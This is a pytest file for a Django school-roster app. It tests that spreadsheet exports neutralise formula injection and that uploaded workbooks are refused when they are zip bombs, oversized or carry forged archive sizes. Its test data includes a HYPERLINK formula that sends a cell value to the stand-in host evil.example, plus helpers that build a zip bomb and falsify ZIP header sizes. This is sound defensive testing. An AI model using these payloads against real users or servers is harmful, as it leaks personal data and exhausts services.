"""Spreadsheets in and out: the one writer neutralises formula injection, uploaded workbooks are
checked before they are parsed, and no report repeats more than an excerpt of a cell."""

import io
import re
import struct
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from tests.access import LOGIN, NOT_FOUND, check_access
from tests.people.test_roster_import import good_rows
from tests.sheets import workbook_bytes
from touyan.accounts.scopes import UNLIMITED
from touyan.core.spreadsheets import SafeWorkbook, SpreadsheetRefused
from touyan.core.uploads import excerpt, shorten
from touyan.people.models import RosterImport, School
from touyan.people.roster.importer import plan_import

PACKAGE = Path(__file__).resolve().parents[2] / "touyan"
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'


def _written(values) -> io.BytesIO:
    book = SafeWorkbook()
    sheet = book.create_sheet("表")
    sheet.append(values)
    stream = io.BytesIO()
    book.save(stream)
    stream.seek(0)
    return stream


def test_no_module_but_the_safe_writer_creates_or_opens_a_workbook():
    """Every export goes through core/spreadsheets.py, every import reads through it."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path.name == "spreadsheets.py" and path.parent.name == "core":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"(?<![A-Za-z_])Workbook\(|load_workbook\(", text):
            offenders.append(str(path.relative_to(PACKAGE)))
    assert offenders == []


def test_formula_like_text_is_written_as_text_with_the_quote_prefix():
    values = [HYPERLINK, "+86 139", "-连字符开头", "@SUM(A1)", "\tTAB", "\rCR", "普通文字"]
    sheet = load_workbook(_written(values)).active
    cells = list(sheet[1])
    # XML itself reads a carriage return back as a line feed; the rest comes back as written.
    assert [cell.value for cell in cells] == [*values[:5], "\nCR", values[6]]
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.quotePrefix for cell in cells] == [True] * 6 + [False]


def test_control_characters_a_name_carries_are_dropped_not_a_crash():
    """XML refuses most control characters: a name pasted with one must still export."""
    book = SafeWorkbook()
    sheet = book.create_sheet("表")
    sheet.append(["王\x01校长", "=\x02SUM(A1)", "第一行\n第二行"])
    sheet.append([sheet.cell("备\x1f注")])
    stream = io.BytesIO()
    book.save(stream)
    rows = [[cell.value for cell in row] for row in load_workbook(stream).active.iter_rows()]
    assert rows == [["王校长", "=SUM(A1)", "第一行\n第二行"], ["备注", None, None]]


def test_numbers_stay_numbers_negative_amounts_included():
    sheet = load_workbook(_written([-1250.5, -3, 0, 42, "-3"])).active
    cells = list(sheet[1])
    assert [cell.value for cell in cells] == [-1250.5, -3, 0, 42, "-3"]
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "n", "s"]
    assert [cell.quotePrefix for cell in cells] == [False, False, False, False, True]


@pytest.mark.django_db
def test_a_hyperlink_school_round_trips_export_to_import_unchanged(client, cast):
    client.force_login(cast.xihu)
    client.post(
        reverse("people:roster_import"),
        {"file": SimpleUploadedFile("r.xlsx", workbook_bytes(good_rows()[:2]).getvalue())},
    )
    roster_import = RosterImport.objects.get()
    client.post(
        reverse("people:roster_preview", args=[roster_import.pk]), {"mode": "all_or_nothing"}
    )
    # A school renamed in the registry to a formula that would send the row's ID number away.
    School.objects.filter(name="杭州学军中学").update(name=HYPERLINK)

    # Re-importing needs the full numbers: the export's option for users with the right.
    exported = client.get(reverse("people:roster_export"), {"full": "1"})
    assert exported["X-Content-Type-Options"] == "nosniff"
    content = b"".join([exported.content])
    sheet = load_workbook(io.BytesIO(content)).active
    school_cells = [row[5] for row in sheet.iter_rows(min_row=2) if row[5].value == HYPERLINK]
    assert school_cells
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in school_cells)
    exported_rows = sheet.max_row - 1

    plan = plan_import(io.BytesIO(content), scope=UNLIMITED)
    assert plan.counts == {"create": 0, "update": 0, "unchanged": exported_rows, "rejected": 0}


def _zip_bomb(unpacked_mb: int) -> bytes:
    """A workbook whose shared strings unpack to ``unpacked_mb`` MB: one 200 MB cell."""
    base = workbook_bytes(good_rows()[:1]).getvalue()
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb,
    ):
        for info in source.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                bomb.writestr(info, source.read(info))
        with bomb.open("xl/worksheets/sheet1.xml", "w") as part:
            part.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/')
            part.write(b'main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>')
            chunk = b"A" * 2**20
            for _ in range(unpacked_mb):
                part.write(chunk)
            part.write(b"</t></is></c></row></sheetData></worksheet>")
    return out.getvalue()


@pytest.mark.django_db
def test_a_zip_bomb_is_refused_in_seconds_with_memory_flat(client, cast):
    bomb = _zip_bomb(200)
    assert len(bomb) < 400 * 1024  # 200 KB or so on the wire
    client.force_login(cast.xihu)
    tracemalloc.start()
    started = time.monotonic()
    try:
        page = client.post(
            reverse("people:roster_import"), {"file": SimpleUploadedFile("炸弹.xlsx", bomb)}
        ).content.decode()
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.monotonic() - started < 5
    assert peak < 20 * 2**20, f"peak {peak / 2**20:.0f} MB"
    assert "解压后有 200 MB，超过上限 100 MB" in page
    assert "AAAAAAAAAA" not in page
    assert not RosterImport.objects.exists()


@pytest.mark.django_db
def test_too_many_rows_or_cells_are_refused_while_streaming(settings):
    settings.SPREADSHEET_LIMITS = {"roster": {"unpacked": 10 * 2**20, "rows": 3, "cells": 10**6}}
    with pytest.raises(SpreadsheetRefused, match="超过 3 行"):
        plan_import(workbook_bytes(good_rows()), scope=UNLIMITED)
    settings.SPREADSHEET_LIMITS = {"roster": {"unpacked": 10 * 2**20, "rows": 100, "cells": 30}}
    with pytest.raises(SpreadsheetRefused, match="超过 30 个单元格"):
        plan_import(workbook_bytes(good_rows()), scope=UNLIMITED)


@pytest.mark.django_db
def test_a_report_repeats_only_an_excerpt_of_a_long_cell(client, cast):
    rows = good_rows()[:1]
    rows[0][9] = "火星" * 16000  # 32,000 characters in the district column
    client.force_login(cast.xihu)
    client.post(
        reverse("people:roster_import"),
        {"file": SimpleUploadedFile("r.xlsx", workbook_bytes(rows).getvalue())},
    )
    report = RosterImport.objects.get().report
    (rejected,) = report["rows"]["rejected"]
    assert "未知的市县" in rejected["messages"][0]
    assert all(len(message) <= 240 for message in rejected["messages"])
    assert len(str(report)) < 4000
    check_access(
        client,
        cast,
        reverse("people:roster_import"),
        {"anonymous": LOGIN, "xihu": "allowed", "binjiang": "allowed", "expert": NOT_FOUND},
    )


def test_an_excerpt_keeps_the_beginning_and_the_end():
    assert excerpt("短") == "短"
    cut = excerpt("甲" * 100 + "乙" * 100, 30)
    assert len(cut) == 30 and cut.startswith("甲") and cut.endswith("乙") and "…" in cut
    assert shorten({"a": ["x" * 1000, 3]}, 10) == {"a": [excerpt("x" * 1000, 10), 3]}


def _lying_about_its_size(data: bytes) -> bytes:
    """The sheet of a workbook whose archive declares the sheet 100 bytes long, in the local
    header and the central directory: what a bomb would do to pass the pre-parse check."""
    raw = bytearray(data)
    name = b"xl/worksheets/sheet1.xml"
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = raw.find(signature)
        while at >= 0:
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if raw[name_at : name_at + len(name)] == name:
                struct.pack_into("<I", raw, at + size_at, 100)
            at = raw.find(signature, at + 4)
    return bytes(raw)


@pytest.mark.django_db
def test_an_archive_lying_about_its_sizes_is_read_no_further_than_it_declares(client, cast):
    big = workbook_bytes(good_rows() * 200).getvalue()
    client.force_login(cast.xihu)
    page = client.post(
        reverse("people:roster_import"),
        {"file": SimpleUploadedFile("r.xlsx", _lying_about_its_size(big))},
    ).content.decode()
    assert "无法读取该文件" in page
    assert not RosterImport.objects.exists()
